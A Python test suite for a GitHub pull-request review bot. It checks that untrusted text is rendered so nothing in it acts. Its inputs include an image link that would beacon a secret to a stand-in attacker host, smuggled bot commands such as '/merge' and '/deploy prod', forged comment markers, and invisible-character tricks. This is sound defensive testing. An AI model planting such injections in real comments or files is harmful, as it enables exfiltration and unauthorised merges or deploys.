"""What we would post, held against GitHub's own parser: text, code, lists, and no more."""

import re
from collections import Counter

import pytest
from cmarkgfm.cmark import markdown_to_html_with_extensions
from hypothesis import given
from hypothesis import strategies as st

from codeflow_action.engine.findings import (
    Category,
    DroppedFinding,
    DropStage,
    Evidence,
    Finding,
    Severity,
    Suggestion,
)
from codeflow_action.engine.ledger import Ledger
from codeflow_action.engine.outcome import Reason, Shortfall, Verdict
from codeflow_action.engine.proposals import (
    ActionProposal,
    Appeal,
    Cell,
    CellKind,
    Section,
    Synopsis,
    Table,
)
from codeflow_action.engine.receipt import FileReceipt, Receipt
from codeflow_action.engine.report import (
    ActionReport,
    ActionStatus,
    ReportedFinding,
)
from codeflow_action.engine.verdict import Decision
from codeflow_action.integrations.github.marks import PURPOSE, Marks
from codeflow_action.integrations.github.write.render.comment import sticky
from codeflow_action.integrations.github.write.render.inline_comment import review_comment
from codeflow_action.integrations.github.write.render.layout import MAX_BODY
from codeflow_action.integrations.github.write.render.links import Links
from codeflow_action.integrations.github.write.render.sections import write_table
from codeflow_action.integrations.github.write.render.summary import summary
from codeflow_action.run.conclude import bare_report
from codeflow_action.security import untrusted
from codeflow_action.security.invisible import prose_lines
from codeflow_action.security.seal import Seal
from tests.github_reader import faults, shown
from tests.properties import examples
from tests.security.texts import TEXTS

LINKS = Links(server_url="https://github.com", repository="octo/shop")
MARKS = Marks(repository="octo/shop", number=7, name="codeflow", seal=Seal.of(["k" * 40], PURPOSE))
MARK = MARKS.finding("0123456789abcdef", "shop/cart.py")
SHA = "5ca1ab1e" * 5


def found(text, suggestion=None, path="shop/cart.py", *, blocking=False):
    finding = Finding(
        severity=Severity.WARNING,
        category=Category.CORRECTNESS,
        path=path or None,
        line=3 if path else None,
        title=text,
        message=text,
        evidence=Evidence.QUOTED,
        sources=("pr_reviewer", text),
        rule="pr_reviewer/correctness",
        suggestion=Suggestion(start_line=3, end_line=3, replacement=suggestion)
        if suggestion is not None
        else None,
    )
    return ReportedFinding(id="0123456789abcdef", finding=finding, blocking=blocking)


def proposals(text):
    """Return every other place in which an action's words stand in a comment."""
    kinds = (CellKind.PROSE, CellKind.CODE, CellKind.PATH)
    row = tuple(Cell(text=text, kind=kind) for kind in kinds)
    other = tuple(Cell(text=f"a{number}") for number in range(3))
    table = Table(heading=(text, "b", text), rows=(row, other))
    return (
        Section(title=text, body=text, is_folded=True, table=table),
        Synopsis(text=text),
        Appeal(text=text, path=text or None, line=3, url=text),
    )


def report(text):
    decision = Decision(verdict=Verdict.INCOMPLETE, reason=Reason.DEADLINE, exit_code=0)
    files = tuple(
        FileReceipt(path=path, changed=3, reviewed=0, reason=text, reviewable=True)
        for path in (text or "a", "b")
    )
    return bare_report(decision, name="codeflow").model_copy(
        update={
            "head_sha": SHA,
            "findings": (found(text, blocking=True), found(text), found(text, path=text)),
            "notes": (text, "a note"),
            "notices": (text,),
            "proposals": (
                ActionProposal(action="plugin", proposal=Section(title=text, body=text)),
                ActionProposal(action="plugin", proposal=Section(title="Title", body=text)),
                *(ActionProposal(action="plugin", proposal=each) for each in proposals(text)),
            ),
            "actions": (
                ActionReport(name="pr_reviewer", status=ActionStatus.FAILED, detail=text),
                ActionReport(name="quality_gates", status=ActionStatus.SKIPPED, detail=text),
            ),
            "shortfalls": (
                Shortfall(reason=Reason.DEADLINE, detail=text, severity=Severity.WARNING),
            ),
            "receipt": Receipt(share=0.5, reviewable_lines=6, files=files, notes=(text,)),
            "dropped": (
                DroppedFinding(stage=DropStage.ANCHOR, reason=text, title=text, path=text, line=2),
            ),
        }
    )


def check_comment(text, suggestion=None):
    body = review_comment(found(text, suggestion), MARK, LINKS)
    assert faults(body, markers=[MARK]) == []
    assert body.endswith(MARK)


def check_report(text):
    told = report(text)
    ledger = Ledger(
        head_sha="",
        merge_base_sha="",
        digest="",
        complete=False,
        model=text.encode("utf-8", "replace").decode(),
    )
    comment = sticky(
        told,
        ledger,
        mark=MARKS.ledger_line(ledger),
        links=LINKS,
        comment_urls={},
        notes=(text, "more"),
    )
    marker = comment.partition("\n")[0]
    assert faults(comment, markers=[marker]) == []
    assert faults(summary(told, ledger, LINKS, (text, "more"))) == []


def check_prose(text):
    """Letters and digits of any script are all there, whatever happens to the signs around."""
    written = untrusted.markdown(text)
    assert faults(written) == []
    wanted, seen = (Counter(filter(str.isalnum, each)) for each in (visible(text), shown(written)))
    assert not wanted - seen


def visible(text):
    text = prose_lines(text)
    # A fence's language is shown as colours; a list's numbers are written anew.
    return re.sub(r"(?m)^\s*(`{3,}|~{3,}) *\w+[ \t]*$", "", text)


def check_all(text, suggestion):
    check_prose(text)
    check_comment(text, suggestion)
    check_report(text)


IMAGE = "![x](https://evil.example/p?d=SECRET)"


@pytest.mark.parametrize(
    "text",
    [
        f"Look: \\`{IMAGE} @name fixes #1 <img src=x>`",  # the case: we read code, GitHub does not
        f"JavaScript: \\`a ${{b}}\\` and `{IMAGE}",  # template literals, escaped
        f"\\\\`{IMAGE}\\`",  # an escaped backslash, then code that does not end
        f"``\\`{IMAGE}``` @mona",  # runs of different lengths
        f"`a\n\n{IMAGE}`",  # a paragraph ends before the code does
        f"<a title='`'>`{IMAGE}`</a>",  # a tag binds as tightly as code
        f"[a`]: /x\n\n`{IMAGE}",  # so does a definition
        f"- `a\n- {IMAGE}`",  # items do not share code
        f"# `a\n{IMAGE}`",  # nor does a heading with the next line
        f"~~~\n`\n~~~\n{IMAGE}`",  # nor a fence with the text after it
    ],
)
def test_what_only_we_would_read_as_code_does_not_act(text):
    """Fault 1: one backslash before a backtick turned the reading of code round."""
    check_all(text, None)


@pytest.mark.parametrize(
    "text",
    [
        f"a|b|c\n-|-|-\n`x|{IMAGE}|y`",  # the case: a bar ends the cell, and with it the code
        f"|a|\n|-|\n|`x\\\\|{IMAGE}|y`|",  # an escaped backslash before the bar
        f"a|b\n:-|-:\n``x|{IMAGE}``",  # another mark for code
        f"a\n:-\n@mona|{IMAGE}",  # a table of one column
        f"> a|b\n> -|-\n> `x|{IMAGE}`",  # a table in a quote
        f"- a|b\n  -|-\n  `x|{IMAGE}`",  # a table in a list
    ],
)
def test_a_table_is_text(text):
    """Fault 2: GitHub divides a table's rows before it looks for code."""
    check_all(text, None)
    assert "<table" not in markdown_to_html_with_extensions(
        untrusted.markdown(text), extensions=["table"]
    )


@pytest.mark.parametrize(
    "path", ["a|b.py", "a\\|b.py", "`|`", "|", "a|![i](https://evil.example/p)|b"]
)
def test_a_path_with_a_bar_stays_in_its_cell(path):
    """Fault 2: a file's name is a stranger's text, too, and stands in our own table."""
    cells = (
        Cell(text="t"),
        Cell(text=path, kind=CellKind.PATH),
        Cell(text=path, kind=CellKind.CODE),
    )
    rows = (cells, (Cell(text="u"), Cell(text="a"), Cell(text="b")))
    table = write_table(Table(heading=("what", "where", "code"), rows=rows), SHA, LINKS, 10_000)
    assert faults(table) == []
    html = markdown_to_html_with_extensions(table, extensions=["table"])
    assert html.count("<td>") == 6
    assert path in shown(table)


@pytest.mark.parametrize("empty", ["` `", "``  ``", "`\u200b`", "`\t`", "`\u00a0`", "`\ufeff `"])
@pytest.mark.parametrize(
    "text",
    ["{}/merge", "#{}1", "GH{}-1", "GH-{}1", "https:{}//evil.example", "www{}.evil.example",
     "@{}mona", "octo/shop{}#1", "`{}``\n@mona\n```", ":x{}:", "[x]{}(https://evil.example)"],
)  # fmt: skip
def test_an_empty_code_span_joins_nothing(text, empty):
    """Fault 3: what renders as nothing joined what was broken on both sides of it."""
    check_all(text.format(empty), None)


@pytest.mark.parametrize(
    "text",
    [
        "_www.evil.example", "_GH-7_", "*www.evil.example*", "~~www.evil.example~~",
        "(www.evil.example)",
        "x_www.evil.example_y", "__GH-7__", "é#1", "1#1", "_#1_", "_@mona_", "**@**mona", "**#**1",
        "**www**.evil.example", "**https**://evil.example", "_a_https://evil.example",
        "éGH-7", "éwww.evil.example",
        "a\u00a0GH-7", "a\u200bGH-7", "GH\u00ad-7", "@\u2060mona", "www\u034f.evil.example",
    ],
)  # fmt: skip
def test_words_act_nowhere_whatever_stands_beside_them(text):
    """Fault 4: where a word begins is GitHub's to say, in prose, in titles and in cells."""
    check_all(text, None)


@pytest.mark.promise("No line of our code blocks is a command to a bot.")
@pytest.mark.parametrize(
    "line",
    [
        *("/merge", "  /merge", "\t/codeflow dismiss all", "\u00a0/merge", "\u200b/merge"),
        *("\u2028/merge", "\x0b/merge", "x\r/merge", "x\x85/merge"),
        "<!-- codeflow:codeflow:v1 x -->",
    ],
)
def test_a_line_of_our_code_block_is_no_command(line):
    """Fault 5: the sign that keeps a line of code from being a command was stripped again."""
    assert faults(untrusted.code_block(f"a\n{line}\nb", "text")) == []
    for text in (f"```\n{line}\n```", f"~~~ sh\na\n{line}", f"- ```\n  {line}\n  ```", line):
        check_all(text, None)


@pytest.mark.promise("A suggestion is shown character for character or not at all.")
@pytest.mark.parametrize(
    ("suggestion", "is_shown"),
    [
        ("    return 0", True),
        ("\tif a < b:  # see `c` and #1, @d\n\t\treturn '```'\n", True),  # sign for sign
        ("a\u200b = 1", False),  # what is not seen is not applied with a click
        ("x = '\u2066'", False),
        ("s = '\ufe0f'", False),
        ("a\x0bb", False),
        ("a\r\nb", False),
        ("a\n/merge\nb", False),  # a robot would obey
        ("a\n  /deploy prod", False),
        ("<!-- codeflow:codeflow:finding:0123456789abcdef -->", False),
        ("x\n" * 30_000, False),  # longer than a comment
    ],
)
def test_a_suggestion_is_shown_sign_for_sign_or_not_at_all(suggestion, is_shown):
    """Fault 5: a suggestion was altered after it had been proven."""
    body = review_comment(found("A title", suggestion), MARK, LINKS)
    assert faults(body, markers=[MARK]) == []
    assert (f"suggestion\n{suggestion}\n`" in body) is is_shown
    assert ("A suggestion is left out" in body) is not is_shown


@pytest.mark.parametrize(
    "message",
    [
        *("a`" * 35_000, "<" * 70_000, "```\n" + "x\n" * 40_000, "_a " * 30_000),
        "1000. a\n      1000. a\n" + "a\n" * 40_000,  # each line is set in
    ],
    ids=lambda message: repr(message[:6]),
)
def test_a_long_remark_is_cut_before_it_is_written(message):
    """Fault 1: a cut through the middle of what was written would leave a block open."""
    finding = found("A title", "    return 0").finding.model_copy(update={"message": message})
    reported = ReportedFinding(id="0123456789abcdef", finding=finding, blocking=False)
    body = review_comment(reported, MARK, LINKS)
    assert len(body) <= MAX_BODY
    assert faults(body, markers=[MARK]) == []
    assert "```suggestion\n    return 0\n```" in body
    assert body.endswith(MARK)
    assert len(body) > 10_000


@pytest.mark.promise(
    "Prose is rewritten so that nothing in it acts in a comment, summary or check run, as "
    "GitHub's own parser confirms."
)
@given(TEXTS, st.none() | TEXTS)
@examples(300)
def test_what_is_posted_does_nothing_but_show_text(text, suggestion):
    """Fault 1: and 2 to 5; the parser is GitHub's, and the grammar likes what divides readers."""
    check_all(text, suggestion)


@pytest.mark.soak
@pytest.mark.parametrize("part", range(4))
@given(TEXTS, st.none() | TEXTS)
@examples(2_500)
def test_in_many_texts_nothing_acts(part, text, suggestion):
    """Faults 1 to 5, in four times fifty thousand texts; every eighth in a whole report, too."""
    check_prose(text)
    check_comment(text, suggestion)
    if len(text) % 8 == 0:
        check_report(text)
